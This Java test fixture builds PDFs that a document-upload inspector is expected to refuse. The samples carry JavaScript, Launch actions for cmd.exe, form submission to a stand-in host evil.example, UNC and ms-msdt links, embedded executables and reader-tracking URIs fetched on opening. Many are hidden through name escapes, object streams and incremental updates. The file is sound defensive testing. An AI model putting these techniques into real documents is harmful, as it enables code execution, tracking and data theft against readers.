package vn.thidua.attachment.inspection;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import vn.thidua.attachment.Evidence;
import vn.thidua.attachment.FileType;

/** PDFs that do something when they are opened, shown, clicked or filled in, wherever that is written and however it is spelt. */
final class HostilePdfActions {

    private final List<GivenFile> files = new ArrayList<>();

    static List<GivenFile> all() {
        HostilePdfActions actions = new HostilePdfActions();
        actions.actions().forEach(actions::everywhere);
        actions.spelt();
        actions.links();
        actions.files();
        actions.automatic();
        actions.updates();
        return actions.files;
    }

    private void refuse(String what, String code, byte[] bytes) {
        files.add(GivenFile.refused("pdf: " + what, code, FileType.PDF, bytes));
    }

    private Map<String, String> actions() {
        Map<String, String> actions = new LinkedHashMap<>();
        actions.put("<</S/JavaScript/JS(app.alert\\(1\\))>>", "activeContent");
        actions.put("<</S/Launch/F(cmd.exe)>>", "activeContent");
        actions.put("<</S/SubmitForm/F(http://evil.example)>>", "activeContent");
        actions.put("<</S/ImportData/F(a.fdf)>>", "activeContent");
        actions.put("<</S/Rendition/OP 0>>", "activeContent");
        actions.put("<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)/D[0/Fit]>>", "linkNotTaken");
        actions.put("<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>", "linkNotTaken");
        return actions;
    }

    private void everywhere(String action, String code) {
        refuse("opened: " + action, code, RawPdf.ofOnePage().catalog("/OpenAction" + action).bytes());
        refuse("opened by reference: " + action, code, RawPdf.ofOnePage().catalog("/OpenAction 4 0 R").with(4, action).bytes());
        refuse("closed: " + action, code, RawPdf.ofOnePage().catalog("/AA<</WC" + action + ">>").bytes());
        refuse("page shown: " + action, code, RawPdf.ofOnePage().page("/AA<</O" + action + ">>").bytes());
        refuse("clicked: " + action, code, RawPdf.ofOnePage().page("/Annots[4 0 R]").with(4, "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A" + action + ">>").bytes());
        refuse("field filled in: " + action, code, RawPdf.ofOnePage().catalog("/AcroForm<</Fields[4 0 R]>>").with(4, "<</FT/Tx/T(a)/AA<</K" + action + ">>>>").bytes());
        refuse("in the outline: " + action, code, RawPdf.ofOnePage().catalog("/Outlines 4 0 R").with(4, "<</First 5 0 R/Last 5 0 R/Count 1>>").with(5, "<</Title(a)/Parent 4 0 R/A" + action + ">>").bytes());
        refuse("after another: " + action, code, RawPdf.ofOnePage().catalog("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[" + action + "]>>").bytes());
        refuse("that nothing speaks of: " + action, code, RawPdf.ofOnePage().with(9, action).bytes());
        refuse("in a packed object: " + action, code, RawPdf.ofOnePage().catalog("/OpenAction 20 0 R").packed(action));
        refuse("in a packed list: " + action, code, RawPdf.ofOnePage().catalog("/OpenAction 20 0 R").packed("<</S/GoTo/D[3 0 R/Fit]/Next 21 0 R>>", "[" + action + "]"));
    }

    private void spelt() {
        for (String action : List.of("<</S/J#61vaScript/JS(a)>>", "<</S/#4aavaScript/J#53(a)>>", "<</#53/#4c#61#75#6e#63#68/F(a)>>", "<</S/Submit#46orm/F(a)>>", "<</S\n/JavaScript\n/JS 5 0 R>>",
                "<</S%a\n/JavaScript/JS<61>>>", "<</S(JavaScript)/JS(a)>>", "<</S/Import#44ata>>", "<</S 5 0 R/JS(a)>>")) {
            refuse("spelt " + action.replace('\n', '^'), "activeContent", RawPdf.ofOnePage().catalog("/OpenAction" + action).with(5, "/JavaScript").bytes());
        }
        // No table knows it; a reader that repairs the file will
        for (String action : List.of("<</S/J#61vaScript/J#53(a)>>", "<</S/L#61unch/F(a)>>", "<</S/Submit#46orm>>")) {
            byte[] clean = Evidence.pdf("a");
            String text = new String(clean, StandardCharsets.ISO_8859_1);
            refuse("in an object that no table knows " + action, "activeContent", HostileMixtures.ascii(text.replace("xref\n0 6", "9 0 obj\n" + action + "\nendobj\nxref\n0 6")));
        }
        refuse("scripts in the tree of names", "activeContent", RawPdf.ofOnePage().catalog("/Names<</JavaScript<</Names[(a)4 0 R]>>>>").with(4, "<</S/JavaScript/JS(a)>>").bytes());
        refuse("scripts in the tree of names, spelt", "activeContent", RawPdf.ofOnePage().catalog("/Names<</J#61vaScript<</Names[(a)4 0 R]>>>>").with(4, "<</S/GoTo>>").bytes());
        refuse("a form of XFA", "activeContent", RawPdf.ofOnePage().catalog("/AcroForm<</Fields[]/XFA 4 0 R>>").stream(4, "", HostileMixtures.ascii("<xdp/>")).bytes());
        refuse("a script in a stream", "activeContent", RawPdf.ofOnePage().catalog("/OpenAction<</S/JavaScript/JS 4 0 R>>").stream(4, "", HostileMixtures.ascii("app.alert(1)")).bytes());
        refuse("PostScript", "activeContent", RawPdf.ofOnePage().stream(4, "/Type/XObject/Subtype/PS", HostileMixtures.ascii("a")).bytes());
    }

    private void links() {
        for (String address : List.of("javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "java\\nscript:alert(1)", "file://evil/share/a.exe", "\\\\\\\\evil\\\\share", "vbscript:a",
                "data:text/html,a", "ms-msdt:/id a", "search-ms:query=a", "//evil/a", "smb://evil/a", "\\152avascript:a")) {
            refuse("a link to " + address, "linkNotTaken", linked("(" + address + ")"));
        }
        refuse("a link in hexadecimal", "linkNotTaken", linked("<6a6176617363726970743a61>"));
        refuse("a link in UTF-16", "linkNotTaken", linked("<feff006a006100760061007300630072006900700074003a0061>"));
        refuse("a link by reference", "linkNotTaken", RawPdf.ofOnePage().page("/Annots[<</Subtype/Link/A<</S/URI/URI 4 0 R>>>>]").with(4, "(javascript:a)").bytes());
        refuse("a base of all links", "linkNotTaken", RawPdf.ofOnePage().catalog("/URI<</Base(file://evil/share/)>>").bytes());
    }

    private static byte[] linked(String address) {
        return RawPdf.ofOnePage().page("/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI" + address + ">>>>]").bytes();
    }

    private void files() {
        refuse("files in the tree of names", "embedded", RawPdf.ofOnePage().catalog("/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>").with(4, "<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>")
                .stream(5, "/Type/EmbeddedFile", HostileMixtures.ascii("MZ")).bytes());
        refuse("files, spelt", "embedded", RawPdf.ofOnePage().catalog("/Names<</Embedded#46iles<</Names[]>>>>").bytes());
        refuse("a file of a specification", "embedded", RawPdf.ofOnePage().with(4, "<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>").stream(5, "", HostileMixtures.ascii("MZ")).bytes());
        refuse("an associated file", "embedded", RawPdf.ofOnePage().catalog("/AF[<</Type/Filespec/EF<<>>>>]").bytes());
        refuse("a portfolio", "embedded", RawPdf.ofOnePage().catalog("/Collection<</View/D>>").bytes());
        for (String kind : List.of("FileAttachment", "RichMedia", "Screen", "Movie", "Sound", "3D", "#46ileAttachment", "Rich#4dedia")) {
            refuse("an annotation " + kind, "embedded", RawPdf.ofOnePage().page("/Annots[<</Type/Annot/Subtype/" + kind + "/Rect[0 0 9 9]>>]").bytes());
            refuse("a packed annotation " + kind, "embedded", RawPdf.ofOnePage().page("/Annots[20 0 R]").packed("<</Type/Annot/Subtype/" + kind + "/Rect[0 0 9 9]>>"));
        }
        refuse("rich content", "embedded", RawPdf.ofOnePage().with(4, "<</RichMediaContent<<>>>>").bytes());
        for (String key : List.of("/F(\\\\\\\\evil\\\\a)", "/F<</FS/URL/F(http://evil.example)>>", "/FFilter/FlateDecode/F(a)")) {
            refuse("a stream that lies elsewhere " + key, "externalContent", RawPdf.ofOnePage().stream(4, key, new byte[0]).bytes());
        }
        refuse("a drawing of another file", "externalContent", RawPdf.ofOnePage().stream(4, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(a.pdf)/Page 0>>", new byte[0]).bytes());
    }

    /** An address that a reader follows himself is no harm; one that is fetched on opening tells who reads. */
    private void automatic() {
        String address = "<</S/URI/URI(http://evil.example/who)>>";
        refuse("an address fetched on opening", "activeContent", RawPdf.ofOnePage().catalog("/OpenAction" + address).bytes());
        refuse("an address fetched on opening, by reference", "activeContent", RawPdf.ofOnePage().catalog("/OpenAction 4 0 R").with(4, address).bytes());
        refuse("an address fetched after a move", "activeContent", RawPdf.ofOnePage().catalog("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next " + address + ">>").bytes());
        refuse("an address fetched after a list of moves", "activeContent", RawPdf.ofOnePage().catalog("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage>>" + address + "]>>").bytes());
        refuse("an address fetched when a page is shown", "activeContent", RawPdf.ofOnePage().page("/AA<</O" + address + ">>").bytes());
        refuse("an address fetched when the pointer passes", "activeContent", RawPdf.ofOnePage().page("/Annots[<</Subtype/Widget/AA<</E 4 0 R>>>>]").with(4, address).bytes());
    }

    private void updates() {
        for (String action : List.of("<</S/JavaScript/JS(a)>>", "<</S/Launch/F(a)>>", "<</S/L#61unch/F(a)>>", "<</S/SubmitForm/F(a)>>")) {
            RawPdf added = RawPdf.ofOnePage().pages();
            int first = added.position();
            added.table("", -1);
            refuse("added later " + action, "activeContent", added.with(1, "<</Type/Catalog/Pages 2 0 R/OpenAction" + action + ">>").table("", first).raw());
            RawPdf removed = RawPdf.ofOnePage().catalog("/OpenAction" + action).pages();
            int old = removed.position();
            removed.table("", -1);
            refuse("taken out later " + action, "activeContent", removed.with(1, "<</Type/Catalog/Pages 2 0 R>>").table("", old).raw());
            byte[] packed = RawPdf.ofOnePage().packed(action);
            String text = new String(packed, StandardCharsets.ISO_8859_1);
            refuse("packed, and the table is broken " + action, "activeContent", HostileMixtures.ascii(text.replaceAll("startxref\n\\d+", "startxref\n7")));
            RawPdf lost = RawPdf.ofOnePage();
            byte[] stream = Pictures.zlib(HostileMixtures.ascii("20 0 " + action));
            lost.stream(9, "/Type/ObjStm/N 1/First 5/Filter/FlateDecode", stream);
            refuse("packed where no table knows it " + action, "activeContent", lost.bytes());
        }
    }
}
